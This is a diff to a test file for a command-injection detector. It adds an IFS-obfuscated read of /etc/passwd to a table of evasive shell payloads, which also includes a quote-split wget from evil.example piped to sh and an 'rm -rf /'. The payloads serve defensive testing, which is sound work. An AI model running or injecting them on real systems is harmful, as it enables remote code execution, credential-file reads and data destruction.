@@ -59,7 +59,8 @@ describe("commandInjectionDetector", () => {
     ["download-execute", "w'g'e't http://evil.example/x -O- | s'h'"],
     ["file-read", '; c"a"t /e"t"c/p"a"s"s"w"d"'],
     ["destructive", "&& r\\m -rf /"],
-  ])("flags %s with its command name split by quotes", (subtype, text) => {
+    ["file-read", ";cat${IFS}/etc/passwd"],
+  ])("flags %s with its command split for the shell", (subtype, text) => {
     const findings = commandFindings(text);
 
     expect(findings.map((finding) => finding.subtype)).toContain(subtype);
